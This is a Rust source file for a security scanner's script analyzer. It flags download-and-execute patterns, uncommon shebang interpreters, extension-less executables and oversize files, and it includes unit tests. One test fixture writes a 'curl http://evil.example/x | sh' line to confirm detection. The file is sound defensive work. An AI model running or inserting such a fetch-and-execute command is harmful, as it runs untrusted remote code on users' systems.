//! Script analyzer: execution-pattern rules over script files.
//!
//! Besides the `execution` rule group this analyzer owns three heuristics:
//! oversize files become `largeFile` warnings instead of being dropped
//! silently, line-1 shebangs naming uncommon interpreters are surfaced, and
//! extension-less shebanged executables are noted.

use anyhow::Result;

use super::{Analyzer, ScanContext};
use crate::engine::{apply_rules, compile_group};
use crate::types::{Finding, Severity};
use crate::walker::{self, FileSet};

const ANALYZER: &str = "scripts";

const UNUSUAL_INTERPRETERS: &[&str] = &["perl", "ruby", "php", "lua", "tclsh"];

pub struct ScriptAnalyzer;

impl Analyzer for ScriptAnalyzer {
    fn name(&self) -> &'static str {
        ANALYZER
    }

    fn analyze(&self, ctx: &ScanContext<'_>) -> Result<Vec<Finding>> {
        let rules = compile_group(&ctx.catalog.patterns.execution)?;
        let walked = walker::walk(ctx.root, FileSet::Script);
        let mut findings = Vec::new();

        for path in &walked.files {
            let rel = walker::relative_path(ctx.root, path);
            let Some(content) = walker::read_capped(path) else {
                continue;
            };

            let shebang = content
                .split('\n')
                .next()
                .filter(|line| line.starts_with("#!"));
            let has_extension = path.extension().is_some();

            // Extension-less files only count as scripts when shebanged;
            // anything else (LICENSE, Makefile) is skipped outright.
            if !has_extension && shebang.is_none() {
                continue;
            }

            findings.extend(apply_rules(&rules, &content, &rel, ANALYZER));

            if let Some(line) = shebang {
                let lowered = line.to_lowercase();
                if let Some(interp) = UNUSUAL_INTERPRETERS.iter().find(|i| lowered.contains(*i)) {
                    findings.push(Finding::new(
                        ANALYZER,
                        Severity::Info,
                        &rel,
                        Some(1),
                        "unusualInterpreter",
                        format!("Script uses an uncommon interpreter ({interp})"),
                    ));
                }
                if !has_extension {
                    findings.push(Finding::new(
                        ANALYZER,
                        Severity::Info,
                        &rel,
                        Some(1),
                        "noExtension",
                        "Executable script without a file extension",
                    ));
                }
            }
        }

        for path in &walked.oversized {
            let rel = walker::relative_path(ctx.root, path);
            findings.push(Finding::new(
                ANALYZER,
                Severity::Warning,
                &rel,
                None,
                "largeFile",
                "File exceeds the 1 MiB scan limit and was not inspected",
            ));
        }

        Ok(findings)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::catalog::Catalog;
    use std::fs;
    use tempfile::TempDir;

    fn scan(tmp: &TempDir) -> Vec<Finding> {
        let catalog = Catalog::builtin();
        let ctx = ScanContext {
            root: tmp.path(),
            catalog: &catalog,
        };
        ScriptAnalyzer.analyze(&ctx).unwrap()
    }

    #[test]
    fn detects_download_execute() {
        let tmp = TempDir::new().unwrap();
        fs::write(
            tmp.path().join("payload.sh"),
            "#!/bin/bash\ncurl http://evil.example/x | sh\n",
        )
        .unwrap();
        let findings = scan(&tmp);
        let hit = findings.iter().find(|f| f.rule_id == "downloadExecute").unwrap();
        assert_eq!(hit.severity, Severity::Critical);
        assert_eq!(hit.line, Some(2));
        assert_eq!(hit.file, "payload.sh");
    }

    #[test]
    fn flags_unusual_interpreter() {
        let tmp = TempDir::new().unwrap();
        fs::write(tmp.path().join("tool.pl"), "#!/usr/bin/perl\nprint 1;\n").unwrap();
        let findings = scan(&tmp);
        assert!(findings
            .iter()
            .any(|f| f.rule_id == "unusualInterpreter" && f.line == Some(1)));
    }

    #[test]
    fn flags_extensionless_shebang_script() {
        let tmp = TempDir::new().unwrap();
        fs::write(tmp.path().join("runme"), "#!/bin/sh\necho hi\n").unwrap();
        let findings = scan(&tmp);
        assert!(findings.iter().any(|f| f.rule_id == "noExtension"));
    }

    #[test]
    fn skips_extensionless_files_without_shebang() {
        let tmp = TempDir::new().unwrap();
        fs::write(tmp.path().join("LICENSE"), "MIT License\neval (\n").unwrap();
        let findings = scan(&tmp);
        assert!(findings.is_empty());
    }

    #[test]
    fn oversize_file_becomes_large_file_warning() {
        let tmp = TempDir::new().unwrap();
        let body = vec![b'x'; walker::MAX_FILE_SIZE as usize + 1];
        fs::write(tmp.path().join("big.sh"), body).unwrap();
        let findings = scan(&tmp);
        let hit = findings.iter().find(|f| f.rule_id == "largeFile").unwrap();
        assert_eq!(hit.severity, Severity::Warning);
        assert_eq!(hit.line, None);
    }

    #[test]
    fn clean_script_produces_no_findings() {
        let tmp = TempDir::new().unwrap();
        fs::write(tmp.path().join("ok.sh"), "#!/bin/bash\necho hello\ndate\n").unwrap();
        assert!(scan(&tmp).is_empty());
    }
}
